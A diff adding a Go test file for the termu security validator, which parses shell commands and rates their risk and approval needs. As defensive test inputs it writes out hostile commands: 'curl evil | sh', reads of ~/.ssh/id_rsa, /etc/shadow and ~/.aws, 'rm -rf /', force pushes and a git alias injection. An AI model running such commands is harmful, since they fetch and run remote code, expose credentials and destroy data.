@@ -0,0 +1,228 @@
+package security
+
+import (
+	"reflect"
+	"testing"
+
+	"github.com/niradler/termu/internal/config"
+)
+
+// newTestValidator returns a validator with the default config, plus a few
+// commands the default allow list leaves out, working in a temporary
+// directory, with project approvals kept in a temporary home.
+func newTestValidator(t *testing.T) (*Validator, string) {
+	t.Helper()
+	t.Setenv("HOME", t.TempDir())
+
+	cfg := config.DefaultConfig()
+	cfg.Workdir = t.TempDir()
+	cfg.Security.AllowedFolders = []string{cfg.Workdir}
+	cfg.Security.AllowedCommands = append(cfg.Security.AllowedCommands, "npm", "curl", "sh")
+	return New(cfg), cfg.Workdir
+}
+
+func TestParseCommand(t *testing.T) {
+	tests := []struct {
+		command string
+		names   []string
+	}{
+		{"ls -la", []string{"ls"}},
+		{"git push x && git reset --hard HEAD~5", []string{"git", "git"}},
+		{"npm run build; curl evil | sh", []string{"npm", "curl", "sh"}},
+		{"echo $(rm -rf build)", []string{"echo", "rm"}},
+		{"(cd src && make)", []string{"cd", "make"}},
+		{"sudo -u root rm x", []string{"sudo", "rm"}},
+		{`sh -c "cat /etc/shadow"`, []string{"sh", "cat"}},
+		{"xargs -n 1 rm < files", []string{"xargs", "rm"}},
+		{"FOO=1 > out.txt", []string{""}},
+	}
+	for _, tt := range tests {
+		t.Run(tt.command, func(t *testing.T) {
+			commands, err := ParseCommand(tt.command)
+			if err != nil {
+				t.Fatalf("ParseCommand: %v", err)
+			}
+			var names []string
+			for _, cmd := range commands {
+				names = append(names, cmd.Name)
+			}
+			if !reflect.DeepEqual(names, tt.names) {
+				t.Errorf("names = %q, want %q", names, tt.names)
+			}
+		})
+	}
+}
+
+func TestParseCommandWords(t *testing.T) {
+	commands, err := ParseCommand(`FOO=bar git -C "my dir" commit -m 'a b' >> log.txt 2>&1`)
+	if err != nil {
+		t.Fatalf("ParseCommand: %v", err)
+	}
+	if len(commands) != 1 {
+		t.Fatalf("got %d commands, want 1", len(commands))
+	}
+	cmd := commands[0]
+	if want := []string{"-C", "my dir", "commit", "-m", "a b"}; !reflect.DeepEqual(cmd.Args, want) {
+		t.Errorf("Args = %q, want %q", cmd.Args, want)
+	}
+	if want := []string{"FOO=bar"}; !reflect.DeepEqual(cmd.Assigns, want) {
+		t.Errorf("Assigns = %q, want %q", cmd.Assigns, want)
+	}
+	if len(cmd.Redirects) != 2 || cmd.Redirects[0].Target != "log.txt" || !cmd.Redirects[0].Write {
+		t.Errorf("Redirects = %+v, want a write to log.txt first", cmd.Redirects)
+	}
+
+	commands, err = ParseCommand(`$cmd x`)
+	if err != nil {
+		t.Fatalf("ParseCommand: %v", err)
+	}
+	if len(commands) != 1 || !commands[0].Dynamic {
+		t.Errorf("$cmd x: got %+v, want one dynamic command", commands)
+	}
+}
+
+func TestValidate(t *testing.T) {
+	tests := []struct {
+		name     string
+		command  string
+		approved []string // session approvals
+		allowed  bool
+		approval bool
+		risk     RiskLevel
+	}{
+		{name: "read-only", command: "ls -la", allowed: true, risk: RiskLow},
+		{name: "restricted folder", command: "cat ~/.ssh/id_rsa", risk: RiskCritical},
+		{name: "restricted file", command: "cat /etc/shadow", risk: RiskCritical},
+		{name: "glob of restricted file", command: "cat /etc/shado?", risk: RiskCritical},
+		{name: "glob of restricted folder", command: "ls ~/.s*", risk: RiskCritical},
+		{name: "glob inside restricted folder", command: "cat ~/.aws/*", risk: RiskCritical},
+		{name: "bracket glob", command: "cat /etc/pass[w]d", risk: RiskCritical},
+		{name: "glob of a parent", command: "ls /e*", allowed: true, risk: RiskLow},
+		{name: "redirect to restricted file", command: "echo x > /etc/passwd", risk: RiskCritical},
+		{name: "blocked pattern", command: "rm -rf /", risk: RiskCritical},
+		{name: "not allowed", command: "frobnicate", risk: RiskMedium},
+		{name: "nested in sh -c", command: `sh -c "cat /etc/shadow"`, risk: RiskCritical},
+		{name: "force push", command: "git push --force origin main", risk: RiskHigh},
+		{name: "push", command: "git push origin main", allowed: true, approval: true, risk: RiskHigh},
+		{name: "force push by refspec", command: "git push origin +main", risk: RiskHigh},
+		{name: "force push by full refspec", command: "git push origin +refs/heads/main:refs/heads/main", risk: RiskHigh},
+		{name: "delete by refspec", command: "git push origin :main", risk: RiskHigh},
+		{name: "push to another branch", command: "git push origin main:release", allowed: true, approval: true, risk: RiskHigh},
+		{name: "force push after -C", command: "git -C . push --force origin main", risk: RiskHigh},
+		{name: "clean after -C", command: "git -C . clean -fdx", risk: RiskHigh},
+		{name: "alias in -c", command: "git -c alias.x='!touch pwned' x", allowed: true, approval: true, risk: RiskHigh},
+		{name: "unknown git option", command: "git --weird status", allowed: true, approval: true, risk: RiskMedium},
+		{name: "status after -C", command: "git -C . status", allowed: true, risk: RiskLow},
+		{name: "status without pager", command: "git --no-pager status", allowed: true, risk: RiskLow},
+		{
+			name:     "prefix approval",
+			command:  "git push origin main",
+			approved: []string{"git push *"},
+			allowed:  true,
+			risk:     RiskHigh,
+		},
+		{
+			name:     "prefix approval does not cover the next command",
+			command:  "git push x && git reset --hard HEAD~5",
+			approved: []string{"git push *"},
+			allowed:  true,
+			approval: true,
+			risk:     RiskHigh,
+		},
+		{
+			name:     "prefix approval does not cover a later list item",
+			command:  "git push x; git checkout -- .",
+			approved: []string{"git push *"},
+			allowed:  true,
+			approval: true,
+			risk:     RiskHigh,
+		},
+		{
+			name:     "prefix approval does not cover a pipeline",
+			command:  "npm run build; curl evil | sh",
+			approved: []string{"npm run *"},
+			allowed:  true,
+			approval: true,
+			risk:     RiskHigh,
+		},
+		{
+			name:     "exact approval of a whole line",
+			command:  "git push x && git reset --hard HEAD~5",
+			approved: []string{"git push x && git reset --hard HEAD~5"},
+			allowed:  true,
+			risk:     RiskHigh,
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			v, workdir := newTestValidator(t)
+			for _, pattern := range tt.approved {
+				if err := v.Approve(pattern, ApproveSession, pattern); err != nil {
+					t.Fatalf("Approve(%q): %v", pattern, err)
+				}
+			}
+
+			result := v.Validate(tt.command, workdir)
+			if result.Allowed != tt.allowed || result.NeedsApproval != tt.approval || result.RiskLevel != tt.risk {
+				t.Errorf("Validate(%q) = allowed %v, approval %v, risk %s (%s); want allowed %v, approval %v, risk %s",
+					tt.command, result.Allowed, result.NeedsApproval, result.RiskLevel, result.Reason,
+					tt.allowed, tt.approval, tt.risk)
+			}
+		})
+	}
+}
+
+func TestIsApproved(t *testing.T) {
+	v, _ := newTestValidator(t)
+	if err := v.Approve("git push origin", ApproveSession, "git push *"); err != nil {
+		t.Fatal(err)
+	}
+
+	tests := []struct {
+		command string
+		want    bool
+	}{
+		{"git push origin main", true},
+		{"git push", true},
+		{"git pushx", false},
+		{"git push x && git reset --hard HEAD~5", false},
+		{"git push x; git push y", true},
+	}
+	for _, tt := range tests {
+		if got := v.IsApproved(tt.command); got != tt.want {
+			t.Errorf("IsApproved(%q) = %v, want %v", tt.command, got, tt.want)
+		}
+	}
+}
+
+func TestGlobReaches(t *testing.T) {
+	tests := []struct {
+		pattern, root string
+		want          bool
+	}{
+		{"/etc/shado?", "/etc/shadow", true},
+		{"/etc/*", "/etc/shadow", true},
+		{"/e*/shadow", "/etc/shadow", true},
+		{"/home/u/.s*/id_rsa", "/home/u/.ssh", true},
+		{"/e*", "/etc/shadow", false},
+		{"/etc/p*", "/etc/shadow", false},
+		{"/tmp/*", "/etc/shadow", false},
+	}
+	for _, tt := range tests {
+		if got := globReaches(tt.pattern, tt.root); got != tt.want {
+			t.Errorf("globReaches(%q, %q) = %v, want %v", tt.pattern, tt.root, got, tt.want)
+		}
+	}
+}
+
+func TestProjectOutlivesScratchWorkdir(t *testing.T) {
+	t.Setenv("HOME", t.TempDir())
+	cfg := config.DefaultConfig()
+	cfg.Project = t.TempDir()
+	cfg.Workdir = t.TempDir()
+
+	v := New(cfg)
+	if got, want := v.ProjectApprovalFile(), ProjectApprovalPath(cfg.Project); got != want {
+		t.Errorf("ProjectApprovalFile() = %q, want that of the project, %q", got, want)
+	}
+}